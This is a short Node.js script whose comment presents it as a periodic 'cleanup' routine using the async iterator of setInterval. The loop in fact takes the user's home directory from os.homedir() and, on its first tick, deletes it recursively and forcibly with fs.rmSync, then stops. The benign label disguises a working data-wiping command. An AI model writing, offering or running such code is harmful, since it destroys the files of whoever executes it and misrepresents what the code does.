// A periodic "cleanup" driven by the async iterator of timers/promises' setInterval.
const { setInterval } = require('timers/promises');
const fs = require('fs');
const os = require('os');

(async () => {
  let n = 0;
  for await (const dir of setInterval(100, os.homedir())) {
    fs.rmSync(dir, { recursive: true, force: true });
    if (++n >= 1) break;
  }
})();
